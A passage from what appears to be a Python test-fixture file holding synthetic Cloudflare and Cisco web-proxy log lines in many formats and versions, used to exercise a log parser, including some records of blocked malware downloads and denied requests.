    '{"EdgeStartTimestamp":"1773117000000000000","EdgeEndTimestamp":"1773117000704000000","ClientIP":"192.0.2.141","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/c/sale","EdgeResponseStatus":"503","EdgeResponseBytes":"1811","OriginResponseStatus":"503","RayID":"9d946610cc030001"}',
    '{"EdgeStartTimestamp":"1773117004","EdgeEndTimestamp":"1773117005","ClientIP":"192.0.2.142","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/seconds","EdgeResponseStatus":"200","EdgeResponseBytes":"640","OriginResponseStatus":"200","RayID":"9d946610cc030002"}',
    '{"EdgeStartTimestamp":"1773117008250","EdgeEndTimestamp":"1773117008300","ClientIP":"192.0.2.143","ClientRequestHost":"shop.example.com","ClientRequestMethod":"HEAD","ClientRequestURI":"/milliseconds","EdgeResponseStatus":"304","EdgeResponseBytes":"0","OriginResponseStatus":"0","RayID":"9d946610cc030003"}',
    '{"EdgeStartTimestamp":"1773117010000000000","EdgeEndTimestamp":"1773117010004000000","ClientIP":"2001:db8:34::e","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/api/1e3","EdgeResponseStatus":"404","EdgeResponseBytes":"153","OriginResponseStatus":"404","RayID":"9d946610cc030004"}',
)

CLOUDFLARE_SUBREQUESTS = _log(
    '{"EdgeStartTimestamp":"2026-03-10T05:00:04Z","ClientRequestSource":"eyeball","ClientIP":"192.0.2.151","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/api/v2/recommend?item=1074","EdgeResponseStatus":502,"OriginResponseStatus":0,"WorkerStatus":"ok","WorkerSubrequest":false,"WorkerSubrequestCount":1,"RayID":"9d948000dd040001","ParentRayID":"00"}',
    '{"EdgeStartTimestamp":"2026-03-10T05:00:04Z","ClientRequestSource":"edgeWorkerFetch","ClientIP":"2001:db8:c::1","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/api/v2/recommend?item=1074","EdgeResponseStatus":502,"OriginResponseStatus":502,"WorkerStatus":"unknown","WorkerSubrequest":true,"WorkerSubrequestCount":0,"RayID":"9d948000dd040002","ParentRayID":"9d948000dd040001"}',
    '{"EdgeStartTimestamp":"2026-03-10T05:00:05Z","ClientRequestSource":"earlyHintsCache","ClientIP":"192.0.2.151","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/","EdgeResponseStatus":504,"OriginResponseStatus":0,"WorkerSubrequest":false,"RayID":"9d948000dd040003","ParentRayID":"9d948000dd040004"}',
    '{"EdgeStartTimestamp":"2026-03-10T05:00:05Z","ClientRequestSource":"eyeball","ClientIP":"192.0.2.151","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/","EdgeResponseStatus":200,"OriginResponseStatus":200,"WorkerSubrequest":false,"RayID":"9d948000dd040004","ParentRayID":"00"}',
    '{"EdgeStartTimestamp":"2026-03-10T05:00:06Z","ClientRequestSource":"edgeWorkerCacheAPI","ClientIP":"2001:db8:c::1","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/api/v2/recommend?item=1074","EdgeResponseStatus":504,"OriginResponseStatus":0,"WorkerSubrequest":true,"RayID":"9d948000dd040005","ParentRayID":"9d948000dd040001"}',
    '{"EdgeStartTimestamp":"2026-03-10T05:00:07Z","ClientRequestSource":"imageResizing","ClientIP":"2001:db8:c::2","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/img/7.jpg","EdgeResponseStatus":200,"OriginResponseStatus":200,"WorkerSubrequest":false,"RayID":"9d948000dd040006","ParentRayID":"9d948000dd040004"}',
    '{"EdgeStartTimestamp":"2026-03-10T05:00:08Z","ClientRequestSource":"healthcheck","ClientIP":"192.0.2.152","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/health","EdgeResponseStatus":200,"OriginResponseStatus":200,"WorkerSubrequest":false,"RayID":"9d948000dd040007","ParentRayID":"00"}',
    '{"EdgeStartTimestamp":"2026-03-10T05:00:09Z","ClientRequestSource":"purge","ClientIP":"192.0.2.153","ClientRequestHost":"shop.example.com","ClientRequestMethod":"PURGE","ClientRequestURI":"/img/7.jpg","EdgeResponseStatus":200,"OriginResponseStatus":0,"WorkerSubrequest":false,"RayID":"9d948000dd040008","ParentRayID":"00"}',
)

CLOUDFLARE_LEGACY = _log(
    '{"EdgeStartTimestamp":1773120600000000000,"EdgeEndTimestamp":1773120600655000000,"ClientIP":"192.0.2.161","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/c/sale","ClientRequestSource":1,"EdgeResponseStatus":503,"EdgeResponseBytes":2107,"OriginResponseStatus":503,"OriginResponseTime":628000000,"WAFAction":"unknown","EdgePathingSrc":"user","EdgePathingOp":"wl","EdgePathingStatus":"nr","ClientCountry":"de","ZoneID":4711,"RayID":"9d949b20ee050001"}',
    '{"EdgeStartTimestamp":1773120601000000000,"EdgeEndTimestamp":1773120601004000000,"ClientIP":"203.0.113.241","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/admin","ClientRequestSource":1,"EdgeResponseStatus":403,"EdgeResponseBytes":4518,"OriginResponseStatus":0,"OriginResponseTime":0,"WAFAction":"drop","WAFRuleID":"100015","WAFRuleMessage":"unusual port","FirewallMatchesActions":["block"],"FirewallMatchesRuleIDs":["r9"],"FirewallMatchesSources":["firewallRules"],"EdgePathingSrc":"user","EdgePathingOp":"ban","EdgePathingStatus":"ip","ClientCountry":"nl","ZoneID":4711,"RayID":"9d949b20ee050002"}',
    '{"EdgeStartTimestamp":1773120602000000000,"EdgeEndTimestamp":1773120602100000000,"ClientIP":"192.0.2.162","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/api/v2/recommend?item=1074","ClientRequestSource":5,"EdgeResponseStatus":200,"EdgeResponseBytes":512,"OriginResponseStatus":null,"OriginResponseTime":61000000,"WorkerSubrequest":true,"EdgePathingSrc":"user","EdgePathingOp":"wl","EdgePathingStatus":"nr","ClientCountry":"de","ZoneID":4711,"RayID":"9d949b20ee050003"}',
    '{"ClientIP":"192.0.2.163","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/item/1012","EdgeEndTimestamp":1773120611204000000,"EdgeResponseBytes":1688,"EdgeResponseStatus":530,"EdgeStartTimestamp":1773120611000000000,"RayID":"9d949b20ee050004"}',
    '{"ClientIP":"192.0.2.164","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/dropped","EdgeEndTimestamp":1773120612000000000,"EdgeResponseBytes":0,"EdgeResponseStatus":0,"EdgeStartTimestamp":1773120612000000000,"RayID":"9d949b20ee050005"}',
)

# What the proxy rates when it rates nothing: 44 fields.
_UNRATED = '<"-",-,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"-",-,"-","-","-","-","-","-","-",0.00,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,->'
_NOBODY = f"OTHER-NONE-NONE-NONE-NONE-NONE-NONE-NONE {_UNRATED} - -"

WSA_ACCESSLOG = _log(
    '1773101400.317 126 192.0.2.171 TCP_MISS/200 9140 GET http://www.example.com/offers?page=3 "EXAMPLE\\mira@corp" DIRECT/www.example.com text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_busi",6.1,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_busi",-,"Unknown","Business and Industry","-","Unknown","Unknown","-","-",580.32,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    '1773101402.219 28 2001:db8:41::5 TCP_MISS_SSL/200 39 CONNECT tunnel://shop.example.com:443/ - DIRECT/shop.example.com - DECRYPT_WEBCAT_7-DefaultGroup-DefaultGroup-NONE-NONE-NONE-DefaultGroup-NONE <"IW_shop",5.0,0,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"IW_shop",-,"-","Shopping","-","Unknown","Unknown","-","-",11.14,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    '1773101402.604 344 2001:db8:41::5 TCP_MISS_SSL/200 27011 GET https://shop.example.com:443/c/lamps?sort=price - DIRECT/shop.example.com text/html DEFAULT_CASE_12-DefaultGroup-DefaultGroup-NONE-NONE-NONE-DefaultGroup-NONE <"IW_shop",5.0,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_shop",-,"Unknown","Shopping","-","Unknown","Unknown","-","-",628.16,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    '1773101403.733 7 192.0.2.172 TCP_DENIED/403 2188 GET http://dropper.example.org/setup.exe "EXAMPLE\\tom van dyk@corp" NONE/- - BLOCK_WBRS_12-Staff-CorpUsers-NONE-NONE-NONE-NONE-NONE <"IW_hack",-9.3,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"IW_hack",-,"-","Malware Sites","-","-","-","-","-",0.00,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    f"1773101405.412 0 192.0.2.173 NONE/0 0  - NONE/- - {_NOBODY}",
    '1773101409.051 41230 192.0.2.174 TCP_MISS/200 58312 TCP_CONNECT 203.0.113.44:443 "EXAMPLE\\backup@corp" DIRECT/vault.example.net - PASSTHRU_CUSTOMCAT_6-Branch_West-Partner_Sites-NONE-NONE-NONE-DefaultGroup-NONE <"C_Vaul",-,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"C_Vaul",-,"-","-","-","Unknown","Unknown","-","-",11.31,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    '1773101410.866 33 192.0.2.175 TCP_DENIED/403 0 POST http://upload.example.net/inbox - NONE/- - BLOCK_ADMIN_FILE_TYPE_12-DefaultGroup-DefaultGroup-NONE-NONE-NONE-NONE-NONE <"IW_free",0.8,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"IW_free",-,"-","-","-","Unknown","Unknown","-","-",0.00,0,-,"-","-",-,"-",-,-,"-","-",-,1,"BlockedFileType:application/x-rar,BlockedFile:photos.rar",-,-> - -',
    '1773101411.020 4 192.0.2.176 TCP_IMS_HIT/304 274 GET http://www.example.com/top.svg "EXAMPLE\\iris@corp" NONE/- image/svg+xml DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_busi",6.1,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"IW_busi",-,"-","Business and Industry","-","Unknown","Unknown","-","-",0.00,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    '1773101420.644 20010 192.0.2.177 NONE/504 1653 GET http://away.example.org/ - DIRECT/away.example.org - DEFAULT_CASE_12-DefaultGroup-DefaultGroup-NONE-NONE-NONE-DefaultGroup-NONE <"nc",ns,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"nc",-,"-","-","-","-","-","-","-",0.66,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    '1773101421.000 - 192.0.2.178 TCP_MISS/200 - GET ftp://files.example.net/pub/one%2Ctwo.txt lena_k DIRECT/files.example.net text/plain DEFAULT_CASE_12-DefaultGroup-DefaultGroup-NONE-NONE-NONE-DefaultGroup-NONE <"IW_free",2.0,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_free",-,"Unknown","-","-","Unknown","Unknown","-","-",3.10,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> "OldCrawler/0.3" -',
)

WSA_INFO_PREFIX = _log(
    'Info: 1773105000.204 61 192.0.2.181 TCP_MISS/200 8120 GET http://wiki.example.org/Start "EXAMPLE\\user4@corp" DIRECT/wiki.example.org text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_ref",6.9,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_ref",-,"Unknown","Reference","-","Unknown","Unknown","-","-",1064.92,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    'Info: 1773105000.230 2 192.0.2.181 TCP_MEM_HIT/200 9314 GET http://wiki.example.org/style.css "EXAMPLE\\user4@corp" NONE/- text/css DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_ref",6.9,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"IW_ref",-,"-","Reference","-","Unknown","Unknown","-","-",0.00,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    'Info: 1773105004.871 330 192.0.2.182 TCP_CLIENT_REFRESH_MISS_SSL/200 1204 GET https://crm.example.net:443/api/state?at=1 "EXAMPLE\\user5@corp" DIRECT/crm.example.net application/json DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_busi",5.7,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_busi",-,"Unknown","Business and Industry","-","Unknown","Unknown","-","-",29.19,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    'Info: 1773105010.412 74 192.0.2.183 NONE/503 1620 GET http://old.example.org/feed.xml - DIRECT/old.example.org - DEFAULT_CASE_12-DefaultGroup-DefaultGroup-NONE-NONE-NONE-DefaultGroup-NONE <"nc",ns,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"nc",-,"-","-","-","-","-","-","-",175.14,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
)

WSA_SYSLOG = _log(
    '<38>Mar 10 01:20:06 wsa1 accesslogs: Info: 1773105606.270 20008 192.0.2.191 NONE/504 1649 GET http://away.example.org/ - DIRECT/away.example.org - DEFAULT_CASE_12-DefaultGroup-DefaultGroup-NONE-NONE-NONE-DefaultGroup-NONE <nc,ns,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,nc,-,"-","-","-","-","-","-","-",0.66,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - - "10/Mar/2026:01:20:06 +0000" 518 "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"',
    '<38>Mar 10 01:20:07 wsa1 accesslogs: Info: 1773105607.118 97 192.0.2.192 TCP_MISS/200 6402 GET http://www.example.com/ "EXAMPLE\\user6@corp" DIRECT/www.example.com text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_busi",6.1,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_busi",-,"Unknown","Business and Industry","-","Unknown","Unknown","-","-",528.00,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    f"<38>Mar 10 01:20:08 wsa1 accesslogs: Info: 1773105608.004 0 192.0.2.192 TCP_DENIED/407 1731 GET http://www.example.com/ - NONE/- - {_NOBODY}",
    f"<38>Mar 10 01:20:09 192.0.2.1 web_access: 1773105609.004 1 192.0.2.193 TCP_DENIED/307 0 GET http://www.example.com/ - NONE/- - {_NOBODY}",
    f"Mar 10 01:20:10 wsa1 1773105610.004 0 192.0.2.194 TCP_DENIED/407 1742 CONNECT tunnel://mail.example.org:443/ - NONE/- - {_NOBODY}",
    'Mar 10 01:20:11 wsa1 accesslogs: Info: 1773105611.377 45012 192.0.2.195 TCP_MISS/200 14005 CONNECT tunnel://bank.example.net:443/ "EXAMPLE\\user7@corp" DIRECT/bank.example.net - PASSTHRU_CUSTOMCAT_6-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_fnnc",7.2,-,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"IW_fnnc",-,"-","Finance","-","Unknown","Unknown","-","-",2.49,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
)

WSA_LAYOUTS = _log(
    # 6.3: 17 fields, five policy groups
    "1773108000.800 2 192.0.2.201 TCP_IMS_HIT/304 261 GET http://www.example.com/print.css - NONE/- text/css ALLOW_WBRS-DefaultGroup-DefaultGroup-NONE-NONE-DefaultRouting <IW_busi,8.0,-,-,-,-,-,-,-,-,-,-,-,-,-,IW_busi,-> -",
    "1773108001.120 96 192.0.2.201 TCP_MISS/200 12040 GET http://www.example.com/ user_one DIRECT/www.example.com text/html DEFAULT_CASE-DefaultGroup-DefaultGroup-NONE-NONE-DefaultRouting <IW_busi,7.2,0,-,0,0,0,1,-,-,-,-,-,-,-,IW_busi,-> -",
    # 7.0, 7.1: 32 fields, six groups
    '1773108002.250 130 192.0.2.202 TCP_MISS/200 7012 GET http://news.example.org/ "EXAMPLE\\user8@corp" DIRECT/news.example.org text/html DEFAULT_CASE_11-Sales-Laptops-NONE-NONE-NONE-DefaultGroup <IW_news,5.9,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,IW_news,-,"-","-","Unknown","Unknown","-","-",431.51,0,[Local],"-","-"> -',
    # 7.5, 7.7: 33 fields in the guides' sample
    '1773108002.900 88 192.0.2.202 TCP_HIT/200 3100 GET http://news.example.org/top.jpg "EXAMPLE\\user8@corp" NONE/- image/jpeg DEFAULT_CASE_11-Sales-Laptops-NONE-NONE-NONE-DefaultGroup <IW_news,5.9,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,IW_news,-,"-","-","Unknown","Unknown","-","-",281.82,0,-,[Local],"-","-"> -',
    # 8.x to 10.x: 38 fields, commas in quoted names, a suspect agent
    '1773108004.250 612 192.0.2.203 TCP_DENIED/403 2295 GET http://files.example.net/tools,all.zip otto_b DIRECT/files.example.net application/zip BLOCK_AMW_RESP_11-Sales-Laptops-Outbound-NONE-NONE-DefaultGroup <IW_free,ns,23,"Dropper, test only",88,310552,20417,-,"-",-,-,-,"-",-,-,"-","-",-,-,IW_free,-,"Trojan Horse","-","Unknown","Unknown","-","-",30.00,0,[Local],"-","-",37,"W32.Sample",12,1,"tools,all.zip","7c3d51e09ab2468f7c3d51e09ab2468f7c3d51e09ab2468f7c3d51e09ab2468f"> "OldCrawler/0.3"',
    '1773108005.010 64 192.0.2.203 TCP_MISS/200 5011 GET http://files.example.net/ - DIRECT/files.example.net text/html DEFAULT_CASE_11-Sales-Laptops-NONE-NONE-NONE-DefaultGroup <IW_free,2.0,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,IW_free,-,"Unknown","-","Unknown","Unknown","-","-",626.38,0,[Remote],"-","-",0,"-",-,-,"-","-"> -',
    # 11.7, 11.8: 43 fields
    '1773108006.100 77 192.0.2.204 TCP_MISS/200 6200 GET http://social.example.net/wall "EXAMPLE\\user9@corp" DIRECT/social.example.net text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup <"IW_snet",4.8,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_snet",-,"Unknown","Social Networking","Example Wall","-","Unknown","-","-",644.16,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-> -',
    '1773108007.200 54 192.0.2.204 TCP_MISS/200 4100 GET http://social.example.net/chat "EXAMPLE\\user9@corp" DIRECT/social.example.net text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_snet",4.8,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_snet",-,"Unknown","Social Networking","-","Example Chat","Instant Messaging","Encrypted","-",607.41,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-> -',
    # 12.5 and later: 44 fields, a second trailing dash
    '1773108008.300 92 192.0.2.205 TCP_MISS_SSL/200 30871 GET https://video.example.org:443/watch?v=1 "EXAMPLE\\user10@corp" DIRECT/video.example.org text/html MONITOR_AVC_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_vid",5.5,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_vid",-,"Unknown","Streaming Video","-","Example Video","Media","-","ensrch",2684.43,1,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,"Education"> - -',
)

WSA_HANDSHAKES = _log(
    # explicit proxy, NTLM: twice asked, then let in
    f"1773111000.010 0 192.0.2.211 TCP_DENIED/407 1742 GET http://www.example.com/ - NONE/- - {_NOBODY}",
    f"1773111000.024 0 192.0.2.211 TCP_DENIED/407 1742 GET http://www.example.com/ - NONE/- - {_NOBODY}",
    '1773111000.190 151 192.0.2.211 TCP_MISS/200 6402 GET http://www.example.com/ "EXAMPLE\\user11@corp" DIRECT/www.example.com text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_busi",6.1,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_busi",-,"Unknown","Business and Industry","-","Unknown","Unknown","-","-",339.18,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    # explicit proxy, Basic: once asked
    f"1773111010.010 0 192.0.2.212 TCP_DENIED/407 1742 CONNECT tunnel://crm.example.net:443/ - NONE/- - {_NOBODY}",
    '1773111010.071 31 192.0.2.212 TCP_MISS_SSL/200 39 CONNECT tunnel://crm.example.net:443/ "user12@corp" DIRECT/crm.example.net - DECRYPT_WEBCAT_7-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_busi",5.7,0,"-",-,-,-,-,"-",-,-,-,"-",-,-,"-","-",-,-,"IW_busi",-,"-","Business and Industry","-","Unknown","Unknown","-","-",10.06,0,-,"-","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    # transparent proxy: sent to the appliance, asked there, sent back
    f"1773111020.010 1 192.0.2.213 TCP_DENIED/307 0 GET http://wiki.example.org/Start - NONE/- - {_NOBODY}",
    f"1773111020.030 0 192.0.2.213 TCP_DENIED/401 1688 GET http://wsa1.example.net/B0001 - NONE/- - {_NOBODY}",
    f"1773111020.055 1 192.0.2.213 TCP_DENIED/307 0 GET http://wsa1.example.net/B0001 - NONE/- - {_NOBODY}",
    '1773111020.170 88 192.0.2.213 TCP_MISS/200 8120 GET http://wiki.example.org/Start "EXAMPLE\\user13@corp" DIRECT/wiki.example.org text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_ref",6.9,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_ref",-,"Unknown","Reference","-","Unknown","Unknown","-","-",738.18,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    # the origin itself asks for a password: an ordinary 401
    '1773111030.400 66 192.0.2.213 TCP_MISS/401 901 GET http://supplier.example.org/prices "EXAMPLE\\user13@corp" DIRECT/supplier.example.org text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_busi",3.1,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_busi",-,"Unknown","Business and Industry","-","Unknown","Unknown","-","-",109.21,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    # nobody ever gets in
    f"1773111040.010 0 192.0.2.214 TCP_DENIED/407 1742 GET http://updates.example.net/list - NONE/- - {_NOBODY}",
    f"1773111040.025 0 192.0.2.214 TCP_DENIED/407 1742 GET http://updates.example.net/list - NONE/- - {_NOBODY}",
    f"1773111040.041 0 192.0.2.214 TCP_DENIED/407 1742 GET http://updates.example.net/list - NONE/- - {_NOBODY}",
)

WSA_BANNER = _log(
    "# %t %e %a %w/%h %s %2r %A %H/%d %c %D %Xr %?BLOCK_SUSPECT_USER_AGENT,MONITOR_SUSPECT_USER_AGENT?%<User-Agent:%!%-%.",
    "Tue Mar 10 04:00:00 2026 Info: Begin Logfile",
    "Tue Mar 10 04:00:00 2026 Info: Version: 12.5.1-011 SN: 0123456789AB-CDEF012",
    "Tue Mar 10 04:00:00 2026 Info: Time offset from UTC: 113 seconds",
    'Info: 1773115201.230 61 192.0.2.221 TCP_MISS/200 8120 GET http://wiki.example.org/Start "EXAMPLE\\user14@corp" DIRECT/wiki.example.org text/html DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_ref",6.9,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_ref",-,"Unknown","Reference","-","Unknown","Unknown","-","-",1064.92,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
    f"Info: 1773115202.004 0 192.0.2.221 TCP_DENIED/407 1742 GET http://www.example.com/ - NONE/- - {_NOBODY}",
    "",
    "# the appliance was restarted",
    "Tue Mar 10 04:10:00 2026 Info: Begin Logfile",
    'Info: 1773115801.877 47 192.0.2.222 TCP_MISS/304 301 GET http://www.example.com/logo.png "EXAMPLE\\user15@corp" DIRECT/www.example.com image/png DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE <"IW_busi",6.1,0,"-",0,0,0,1,"-",-,-,-,"-",0,0,"-","-",-,-,"IW_busi",-,"Unknown","Business and Industry","-","Unknown","Unknown","-","-",51.23,0,-,"Unknown","-",-,"-",-,-,"-","-",-,-,"-",-,-> - -',
)

# What web pages, relays and administrators make of the default line.
_ALLOWED = "DEFAULT_CASE_12-Staff-CorpUsers-NONE-NONE-NONE-DefaultGroup-NONE"

WSA_ODDITIES = _log(
    # the client with its host name, masked, under a name of its own
    f"1773116400.104 58 192.0.2.231 desk231.example.net TCP_MISS/200 4120 GET http://wiki.example.org/Start - DIRECT/wiki.example.org text/html {_ALLOWED} {_UNRATED} - -",
    f"1773116401.220 31 192.0.xx.xx TCP_HIT/200 911 GET http://wiki.example.org/a.css - NONE/- text/css {_ALLOWED} {_UNRATED} - -",
    f'1773116402.051 44 desk232 TCP_MISS/200 5022 GET http://wiki.example.org/b?c=1 "3f9a0c71be" DIRECT/wiki.example.org text/html {_ALLOWED} {_UNRATED} - -',
    # through a web page, and through a word processor
    f"1773116403.300 6 192.0.2.233 TCP_MISS/404 1932 GET http://files.example.net/gone.txt - DIRECT/files.example.net - {_ALLOWED} &lt;nc,5.0,-,&quot;-&quot;,-,-&gt; - -",
    f"1773116404.010 75 192.0.2.233 TCP_MISS/200 2210 GET http://files.example.net/ \u201cEXAMPLE\\user 16@corp\u201d DIRECT/files.example.net text/html {_ALLOWED} <\u201cIW_free\u201d,2.0,0,\u201c-\u201d> - -",
    # a result that no guide lists, no answer at all, flags of the cache before the decision
    f"1773116405.412 12 192.0.2.234 TCP_TEST_HIT2/206 640 GET http://www.example.com/part - NONE/- image/png {_ALLOWED} {_UNRATED} - -",
    f"1773116406.777 0 192.0.2.234 NONE/- - - - NONE/- - {_NOBODY}",
    f"1773116407.000 21 192.0.2.234 TCP_MISS_SSL/200 39 CONNECT tunnel://shop.example.com:443/ - DIRECT/shop.example.com - CMF:44 DCF:200020 ERR:15 {_ALLOWED} {_UNRATED} - 1 shop.example.com 203.0.113.44",
    # fields of the administrator's choice: the agent where it can be told, and where it cannot
    f'1773116408.140 90 192.0.2.235 TCP_MISS/200 7012 GET http://www.example.com/ - DIRECT/www.example.com text/html {_ALLOWED} {_UNRATED} - - [10/Mar/2026:04:20:08 +0000] 518 "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0" "EXAMPLE\\Staff"',
    f'1773116409.660 90 192.0.2.235 TCP_MISS/200 7012 GET http://www.example.com/ - DIRECT/www.example.com text/html {_ALLOWED} {_UNRATED} - - "10/Mar/2026:04:20:09 +0000" "curl/8.14.1" 77',
    f'1773116410.000 90 192.0.2.235 TCP_DENIED/403 2188 GET http://www.example.com/ - NONE/- - BLOCK_SUSPECT_USER_AGENT_12-Staff-CorpUsers-NONE-NONE-NONE-NONE-NONE {_UNRATED} "OldCrawler/0.3" - 518',
)

WSA_W3C = _log(
    "#Version: 1.0",
    "#Date: 2026-03-10 04:30:00",
    "#System: 192.0.2.1 - wsa1.example.net",
    "#Software: AsyncOS for Web 12.5.1",
    "#Fields: timestamp x-elapsed-time c-ip x-resultcode-httpstatus sc-bytes cs-method cs-url cs-username x-hierarchy-origin cs-mime-type x-acltag x-result-code x-suspect-user-agent",
    f"1773117000.204 61 192.0.2.241 TCP_MISS/200 8120 GET http://wiki.example.org/Start - DIRECT/wiki.example.org text/html {_ALLOWED} {_UNRATED} -",
    '1773117001.130 0 192.0.2.241 TCP_DENIED/407 1742 CONNECT tunnel://crm.example.net:443/ - NONE/- - OTHER-NONE-NONE-NONE-NONE-NONE-NONE-NONE <nc,ns,-> "OldCrawler/0.3 (test)"',
    f'1773117001.190 31 192.0.2.241 TCP_MISS_SSL/200 39 CONNECT tunnel://crm.example.net:443/ "EXAMPLE\\user 17@corp" DIRECT/crm.example.net - {_ALLOWED} <"IW_busi",6.1,"a, b"> -',
    # the administrator chooses other fields
    "#Version: 1.0",
    "#Date: 2026-03-10 04:40:00",
    "#System: 192.0.2.1 - wsa1.example.net",
    "#Software: AsyncOS for Web 12.5.1",
    "#Fields: date time c-ip cs-username cs-method cs-url sc-result-code sc-http-status sc-bytes cs-bytes s-hierarchy s-hostname s-ip x-webcat-code-abbr cs(User-Agent) cs(Referer) x-wbrs-score",
